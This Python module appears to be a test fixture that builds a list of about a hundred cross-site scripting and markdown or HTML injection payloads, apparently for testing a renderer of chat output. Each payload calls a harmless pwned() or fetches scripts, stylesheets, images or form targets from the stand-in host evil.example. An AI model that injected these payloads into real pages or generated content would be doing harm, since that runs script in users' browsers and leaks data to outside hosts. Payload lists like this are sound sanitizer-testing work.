"""A hundred ways to smuggle a script, a request or a style into a page; each would call `pwned()` or ask `EVIL`."""

from __future__ import annotations

EVIL = "https://evil.example"

_CALL = "pwned()"
_TAGS = ("img", "svg", "body", "video", "audio", "iframe", "input autofocus", "details open", "marquee", "object")
_EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onstart")

PAYLOADS: list[str] = [
    *(f"<{tag} {event}={_CALL} src=x>" for tag in _TAGS for event in _EVENTS),
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script src={EVIL}/a.js></script>",
    f"<script type=module>import '{EVIL}/a.js'</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</chat-turn></div><script>{_CALL}</script>",
    f"<!--><script>{_CALL}</script>-->",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f'" onmouseover="{_CALL}" autofocus onfocus="{_CALL}',
    f"' onmouseover='{_CALL}' autofocus onfocus='{_CALL}",
    f"[press](javascript:{_CALL})",
    f"[press](JaVaScRiPt:{_CALL})",
    f"[press](java&#x09;script:{_CALL})",
    f"[press](data:text/html,<script>{_CALL}</script>)",
    f"[press](vbscript:{_CALL})",
    f"<javascript:{_CALL}>",
    f"<{EVIL}/autolink>",
    f"![image]({EVIL}/a.png)",
    f"![image][r]\n\n[r]: {EVIL}/a.png",
    f"[1]: javascript:{_CALL}",
    f"[1](javascript:{_CALL})",
    f'[press]({EVIL} "onload={_CALL}")',
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<div style=\"background:url('{EVIL}/a.png')\">x</div>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<form action={EVIL}><button autofocus>send</button></form>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<embed src={EVIL}/a.swf>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x></svg>",
    f"<svg><use href='{EVIL}/a.svg#x'/></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_CALL}></style></mglyph></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template><script>{_CALL}</script></template>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={_CALL}&#62;",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"${{{_CALL}}}",
    f"```html\n<script>{_CALL}</script>\n```",
    f"| a |\n|---|\n| <img src=x onerror={_CALL}> |",
    f"\N{RIGHT-TO-LEFT OVERRIDE}<script>{_CALL}</script>",
    f"<img src='x' `onerror={_CALL}`>",
]
